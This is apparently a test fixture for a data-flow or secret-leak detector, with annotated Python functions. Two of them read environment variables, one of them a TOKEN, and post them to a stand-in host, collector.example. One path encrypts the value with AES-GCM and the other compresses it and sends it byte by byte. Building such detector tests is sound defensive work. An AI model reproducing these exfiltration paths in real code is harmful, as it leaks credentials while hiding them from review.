# What was encrypted or compressed has no parts by name.
import json
import os
import zlib

import requests
from Crypto.Cipher import AES

URL = "https://collector.example/u"


def send(key):
    text = json.dumps({"token": os.environ["TOKEN"]}).encode()  #~ source(ENVIRONMENT) f1
    sealed, tag = AES.new(key, AES.MODE_GCM).encrypt_and_digest(text)
    requests.post(URL, data=sealed)  #~ sink(egress.http) f1, finding(traced) f1


def pack():
    packed = zlib.compress(json.dumps({"name": os.environ["NAME"]}).encode())  #~ source(ENVIRONMENT) f2
    for byte in packed:
        requests.post(URL, data=byte)  #~ sink(egress.http) f2, finding(traced) f2


def constant(key):
    sealed, tag = AES.new(key, AES.MODE_GCM).encrypt_and_digest(json.dumps({"n": len(os.environ)}).encode())
    requests.post(URL, data=sealed)  #~ ok
